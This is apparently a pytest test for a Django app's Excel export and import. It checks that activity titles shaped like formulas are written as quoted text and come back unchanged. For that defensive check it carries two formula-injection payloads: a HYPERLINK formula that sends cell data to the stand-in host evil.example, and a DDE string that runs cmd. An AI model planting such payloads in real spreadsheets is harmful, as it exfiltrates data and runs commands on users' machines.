"""Text typed into a plan never reaches the exported workbook as a formula."""

import io

import pytest
from openpyxl import load_workbook

from plans.excel import ACTIVITY_SHEET, INDICATOR_SHEET, plan_import_xlsx, plan_to_xlsx
from plans.models import Activity
from plans.selectors import plan_with_tree

pytestmark = pytest.mark.django_db

MALICIOUS = "=HYPERLINK(\"http://evil.example/\"&A1,\"แผนฉบับเต็ม\")"


def test_an_activity_title_that_looks_like_a_formula_is_exported_as_text_and_imports_unchanged(plan):
    activity = Activity.objects.filter(measure__policy__plan=plan).order_by("pk").first()
    Activity.objects.filter(pk=activity.pk).update(title=MALICIOUS, note="@SUM(1+1)*cmd|' /C calc'!A0")
    data = plan_to_xlsx(plan_with_tree(plan.pk))
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in (book[ACTIVITY_SHEET], book[INDICATOR_SHEET]) for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert {c.value for c in cells} == {MALICIOUS, "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(c.data_type != "f" and c.quotePrefix for c in cells)
    result = plan_import_xlsx(actor=None, plan=plan, fileobj=io.BytesIO(data))
    assert result.ok and result.changed == 0
    assert Activity.objects.get(pk=activity.pk).title == MALICIOUS
